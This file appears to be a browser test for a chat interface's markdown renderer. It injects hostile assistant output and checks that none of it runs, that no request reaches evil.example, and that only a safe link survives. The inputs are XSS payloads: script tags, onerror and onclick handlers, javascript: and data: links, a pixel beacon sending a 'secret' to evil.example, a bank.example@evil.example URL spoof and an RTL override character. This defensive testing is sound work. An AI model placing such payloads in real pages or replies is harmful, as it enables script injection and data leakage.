// What a model writes may be meant to harm: nothing of it runs, nothing is fetched, and it looks like what it is. The service's answer
// is replaced by one that no built-in model gives.
// only in the soak
import { perform } from "./stage.mjs";
import { begin, chat, check, instanceOf, open, say, settled, told } from "./chat.mjs";

const hostile = [
  "# A heading with <script>window.ran = 1</script>",
  "<img src=x onerror='window.ran = 2'><iframe src='https://evil.example/frame'></iframe>",
  "![a picture](https://evil.example/pixel.png?secret=1) and ![](data:image/svg+xml;base64,PHN2Zy8+)",
  "[click](javascript:window.ran=3) [click](data:text/html,<script>window.ran=4</script>) [bank](https://bank.example@evil.example/) [fine](https://example.com/page)",
  "Turned \u202Earound\u202C.",
  "| a | b |\n|---|---|\n| <b onclick=window.ran=5>x</b> | ![t](https://evil.example/t.png) |",
  "```html\n<script>window.ran = 6</script>\n```",
  "- [x] done\n- [ ] open\n\n> a quote with `code`",
  "[ref][r]\n\n[r]: javascript:window.ran=7",
  "x".repeat(12_000),
].join("\n\n");

const tools = [
  { type: "dynamic-tool", toolName: "list_files", toolCallId: "t1", input: { project: "ops", prefix: "notes/" }, state: "output-available", output: { files: ["a.md"] }, durationMs: 212 },
  { type: "dynamic-tool", toolName: "http_fetch", toolCallId: "t2", input: { url: "https://evil.example" }, state: "output-error", errorText: "<img src=x onerror=window.ran=8> the host is not allowed", durationMs: 1_800 },
  { type: "dynamic-tool", toolName: "write_file", toolCallId: "t3", input: { path: "x" }, state: "output-error", errorText: '{"type":"interrupted","message":"cut off"}' },
];

await perform(async (enter) => {
  const visitor = await enter();
  await begin(visitor);
  await say(visitor, "n=3");
  await settled(visitor, 1);
  const instance = instanceOf(visitor);
  await told(visitor, instance, (snapshot) => {
    const reply = snapshot.messages.find((message) => message.role === "assistant");
    reply.parts = [{ type: "text", text: hostile, state: "done" }, ...tools, { type: "text", text: "And a last word.", state: "done" }];
    return snapshot;
  });
  const asked = [];
  visitor.page.on("request", (request) => asked.push(request.url()));
  await open(visitor, instance);
  await visitor.page.getByText("And a last word.").waitFor();
  const { ran, elements } = await visitor.page.evaluate(() => ({
    ran: window.ran,
    elements: [...document.querySelectorAll(".md script, .md img, .md iframe, .md [onclick], .md [onerror], .md a[href^='javascript'], .md a[href^='data']")].map((each) => each.outerHTML),
  }));
  check(visitor, "hostile", ran === undefined, `something ran: ${ran}`);
  check(visitor, "hostile", elements.length === 0, `made ${elements.join()}`);
  check(visitor, "hostile", !asked.some((url) => url.includes("evil.example")), `asked ${asked.filter((url) => url.includes("evil")).join()}`);
  const links = await visitor.page.locator(".md a").evaluateAll((all) => all.map((each) => [each.getAttribute("href"), each.rel]));
  check(visitor, "hostile", JSON.stringify(links) === JSON.stringify([["https://example.com/page", "noopener noreferrer"]]), `links to ${JSON.stringify(links)}`);

  // Each call stands as the wire says: those that failed are open, message first.
  const cards = visitor.page.locator(".tools button.tool");
  const states = await cards.evaluateAll((all) => all.map((each) => [each.querySelector(".name").textContent, each.querySelector("time").textContent, each.getAttribute("aria-expanded")]));
  check(visitor, "tools", JSON.stringify(states) === JSON.stringify([["List files", "212 ms", "false"], ["Http fetch", "1.8 s", "true"], ["Write file", "", "true"]]), JSON.stringify(states));
  await cards.first().click();
  await visitor.look("hostile", {
    at: chat(instance),
    see: ["[U+202E]", "evil.example", "a picture", "<script>window.ran = 6</script>", "the host is not allowed", "Result unknown, not repeated", "a.md", "notes/", "Expand", "example.com"],
  });
});
